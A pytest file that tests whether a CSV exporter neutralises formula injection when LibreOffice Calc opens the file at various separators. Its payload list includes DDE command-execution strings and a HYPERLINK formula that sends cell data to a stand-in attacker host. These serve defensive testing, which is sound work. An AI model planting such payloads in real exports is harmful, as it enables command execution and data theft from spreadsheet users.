"""No cell of an exported CSV is a formula in LibreOffice Calc, whichever separator it is told to cut at."""

from __future__ import annotations

import csv
import io

import pytest
import reference_exporter as reference
from calc import Cell, converted, sheet
from records import Record, a_result, a_run, dumped, load_all, saved, written

# https://owasp.org/www-community/attacks/CSV_Injection: cells that begin with = + - @ TAB CR LF, full-width
# forms, and the same behind a separator or a quote inside a cell.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-5", "=-5", "%=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=DDE("cmd","/C calc","x")', '="a"&"b"',
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1+1)", "=1+1;=1+1", '=1+1";=1+1', "'=1+1", "''=1+1",
)  # fmt: skip
OPENINGS = (
    "", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\t", "\r", "\n", "\r\n", "\0", '"', '","', '";"',
)  # fmt: skip
SEPARATORS_INSIDE = ("", *",;\t\r\n|")
PAYLOADS = tuple(
    f"{'text' if inside else ''}{inside}{opening}{formula}"
    for formula in FORMULAS
    for inside in SEPARATORS_INSIDE
    for opening in OPENINGS
)

TEXT_KEYS = ("submissionId", "userId", "taskTitle", "skillArea", "reviewer", "notes")
CUT_AT = {"comma": "44", "semicolon": "59", "tab": "9", "pipe": "124", "all four": "44/59/9/124"}
FILES = ("guarded", "naive", "weak")
FEWER = 5
"""The controls have every fifth payload: they need not show more than that they fail."""

Sheets = dict[tuple[str, str], list[list[Cell]]]


def payload_run(number: int, payload: str) -> Record:
    """A run with a payload in every text field, its id among them; its scores are negative."""
    texts = dict.fromkeys(TEXT_KEYS, payload)
    result = a_result(number, **texts, userScore=-number - 0.25, aiScore=-1e-7)
    run_id = "".join(character for character in payload if character.isprintable())
    return a_run([result], id=f"{run_id} {number}", reviewer=payload, averageDeviation=-number - 0.5)


def weakly_guarded(runs: list[Record]) -> bytes:
    """What a careful script would write: a `'` in front of a cell that begins with one of four."""
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(label for label, _, _ in reference.CSV_COLUMNS)
    for run in runs:
        owners = {"run": run, "result": run["results"][0]}
        values = [owners[owner][key] for _, owner, key in reference.CSV_COLUMNS]
        writer.writerow(f"'{value}" if str(value)[:1] in tuple("=+-@") else value for value in values)
    return text.getvalue().encode()


def options(separator: str) -> str:
    """How a person would open it who wants everything evaluated: numbers detected, spaces trimmed."""
    return f"Text - txt - csv (StarCalc):{separator},34,76,1,,0,false,true,false,false,true,,true"


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> Sheets:
    """What Calc sees in each file at each separator."""
    folder = tmp_path_factory.mktemp("calc")
    runs = [payload_run(number, payload) for number, payload in enumerate(PAYLOADS)]
    loaded = load_all(saved(folder / "runs.json", dumped(runs)))
    contents = {
        "guarded": written(loaded, "csv"),
        "naive": written(loaded[::FEWER], "csv", formula_guard=False),
        "weak": weakly_guarded(runs[::FEWER]),
    }
    files = [saved(folder / f"{name}.csv", contents[name]) for name in FILES]
    found = {}
    for cut, separator in CUT_AT.items():
        made = converted(files, "fods", folder, reading=options(separator))
        found |= {(name, cut): sheet(file) for name, file in zip(FILES, made, strict=True)}
    return found


def live(rows: list[list[Cell]]) -> list[Cell]:
    return [cell for row in rows for cell in row if cell.formula]


@pytest.mark.parametrize("cut", CUT_AT)
def test_calc_finds_no_formula(sheets: Sheets, cut: str) -> None:
    assert live(sheets["guarded", cut]) == []


@pytest.mark.parametrize("cut", CUT_AT)
def test_no_cell_begins_as_a_formula_in_any_other_spreadsheet(sheets: Sheets, cut: str) -> None:
    """Excel evaluates + - and @ too; where Calc cuts, it would."""
    texts = [cell.value for row in sheets["guarded", cut] for cell in row if isinstance(cell.value, str)]
    starts = {text.lstrip("".join(reference.BLANKS))[:1] for text in texts}
    assert len(texts) > len(PAYLOADS)
    assert starts.isdisjoint(reference.FORMULA_STARTS)


def test_every_negative_number_stays_a_number(sheets: Sheets) -> None:
    _, *rows = sheets["guarded", "comma"]
    assert [row[6].value for row in rows] == [-number - 0.25 for number in range(len(PAYLOADS))]
    assert {row[7].value for row in rows} == {-1e-7}
    assert [row[17].value for row in rows] == [-number - 0.5 for number in range(len(PAYLOADS))]


def test_a_guard_that_looks_at_the_first_character_alone_makes_texts_of_numbers(sheets: Sheets) -> None:
    assert sheets["weak", "comma"][1][6].value == "'-0.25"


@pytest.mark.parametrize("cut", CUT_AT)
def test_without_the_guard_calc_finds_formulas(sheets: Sheets, cut: str) -> None:
    assert len(live(sheets["naive", cut])) > 20


@pytest.mark.parametrize("cut", ["semicolon", "tab", "pipe", "all four"])
def test_a_guard_at_the_start_of_cells_alone_is_not_enough(sheets: Sheets, cut: str) -> None:
    assert len(live(sheets["weak", cut])) > 20
